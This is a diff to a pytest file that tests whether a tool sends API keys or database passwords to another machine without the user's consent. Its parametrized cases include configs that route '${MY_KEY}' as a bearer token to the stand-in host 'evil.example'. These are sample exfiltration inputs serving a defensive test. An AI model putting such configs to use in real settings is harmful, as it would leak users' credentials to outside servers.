@@ -360,7 +360,7 @@ def test_a_yes_lets_a_key_go_to_a_new_address(tmp_path: Path) -> None:
         assert talk_with(tmp_path / "home", second, "MY_KEY") == 0
 
 
-KEYS = ("OPENAI_API_KEY", "OLLAMA_API_KEY", "MY_KEY", "PGPASSWORD")
+KEYS = ("OPENAI_API_KEY", "OLLAMA_API_KEY", "MY_KEY", "PGPASSWORD", "PINECONE_API_KEY")
 
 
 @pytest.mark.parametrize(
@@ -373,6 +373,7 @@ KEYS = ("OPENAI_API_KEY", "OLLAMA_API_KEY", "MY_KEY", "PGPASSWORD")
         "mcp: {x: {url: 'https://evil.example', headers: {A: 'Bearer ${MY_KEY}'}}}",
         "index: {store: {class: llama_index.x.Y, uri: 'https://evil.example', token: '${MY_KEY}'}}",
         "index: {store: {class: llama_index.vector_stores.postgres.X, host: evil.example}}",
+        "index: {store: {class: llama_index.vector_stores.pinecone.X}}",
     ],
 )
 def test_no_key_goes_to_another_machine_without_a_yes(tmp_path: Path, settings: str) -> None:
